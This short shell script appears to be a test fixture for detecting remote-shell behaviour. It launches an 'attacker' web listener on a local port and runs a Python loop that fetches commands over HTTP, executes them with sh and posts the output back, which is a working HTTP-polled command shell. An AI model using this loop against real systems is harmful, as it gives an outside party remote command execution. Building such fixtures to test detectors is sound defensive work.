# Each connection has ended when the shell runs, and the code names the shell but not what it does.
. "$CORPUS/lib/common.sh"
attacker web 31064
python3 -c 'import subprocess, time, urllib.request as web
for _ in range(4):
    asked = web.urlopen("http://127.0.0.1:31064/").read()
    said = subprocess.run(["sh"], input=asked, capture_output=True).stdout
    web.urlopen("http://127.0.0.1:31064/", data=said)
    time.sleep(0.5)' &
verdict
